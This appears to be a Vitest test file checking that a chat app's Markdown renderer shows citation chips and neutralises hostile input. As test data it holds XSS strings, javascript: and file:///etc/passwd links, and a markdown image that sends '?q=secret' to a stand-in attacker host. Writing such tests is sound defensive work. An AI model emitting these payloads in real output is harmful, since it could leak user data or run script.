import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import type { Citation } from '../../../../../src-preload/contract/chat.ts';
import { MarkdownText } from '../../../../../src-renderer/features/chat/markdown-text.tsx';

const citation: Citation = {
  number: 2,
  kind: 'message',
  memoryId: null,
  memoryKind: null,
  frameId: null,
  messageId: 1,
  sessionId: 1,
  label: 'A note',
  at: 0,
  quote: 'as noted',
  hasImage: false,
  gone: false,
};

function html(text: string): string {
  const nothing = () => undefined;
  return renderToStaticMarkup(
    createElement(MarkdownText, { text, citations: [citation], onCitation: nothing, onLink: nothing }),
  );
}

describe('the Markdown of an answer', () => {
  it('shows a citation as a chip, and a number without a source as it was written', () => {
    expect(html('The plumber comes [2].')).toContain('aria-label="Source 2: A note"');
    expect(html('The plumber comes [7].')).toContain('comes [7].');
    expect(html('The plumber comes [2][2].').match(/Source 2/g)).toHaveLength(2);
  });

  it('leaves numbers in code alone', () => {
    expect(html('`list[2]`')).toContain('<code>list[2]</code>');
    expect(html('```\nlist[2]\n```')).not.toContain('Source');
  });

  it('builds no element out of HTML', () => {
    const shown = html(
      '<img src="https://evil.example/?q=1"> <script>alert(1)</script> <b onclick="x()">b</b>',
    );
    expect(shown).not.toMatch(/<(img|script|b)[ >]/);
  });

  it('loads no picture, and says that there was one', () => {
    const shown = html('![the plan](https://evil.example/?q=secret)');
    expect(shown).not.toContain('<img');
    expect(shown).not.toContain('evil.example');
    expect(shown).toContain('[picture: the plan]');
  });

  it.each(['javascript:alert(1)', 'file:///etc/passwd', 'mneme-frame://frame/1', 'data:text/html,x'])(
    'makes no link to %s',
    (address) => {
      expect(html(`[here](${address})`)).not.toContain('<button');
    },
  );

  it('shows the address of a link and follows it only through the window', () => {
    const shown = html('[here](https://example.org/a)');
    expect(shown).toContain('title="https://example.org/a"');
    expect(shown).not.toContain('href');
  });

  it('stands whatever depth of quotes and lists a model writes on one line', () => {
    for (const mark of ['> ', '- ', '1. ', '> - '])
      expect(html(`${mark.repeat(3_000)}Boil`).endsWith('</div>')).toBe(true);
    expect(html(`${'> '.repeat(3_000)}Boil`)).toContain('Boil');
    expect(html('> - Boil').match(/<(blockquote|ul)>/g)).toHaveLength(2);
  });

  it('shows the marks of a paragraph as they were written beyond a thousand, and those of the next one as ever', () => {
    const shown = html(`${'*a '.repeat(1_200)}${'*b* '.repeat(600)}\n\nIt *boils*.`);
    expect(shown).toContain('*b* *b*');
    expect(shown).toContain('<em>boils</em>');
    expect(html('*a* '.repeat(400)).match(/<em>/g)).toHaveLength(400);
  });

  // The square of their number takes minutes, which is longer than a test may take.
  it('stands whatever number of marks a model writes on one line', () => {
    for (const marks of ['*_', '*_a', 'a*', '**_'])
      expect(html(marks.repeat(100_000 / marks.length)).endsWith('</div>')).toBe(true);
  });
});
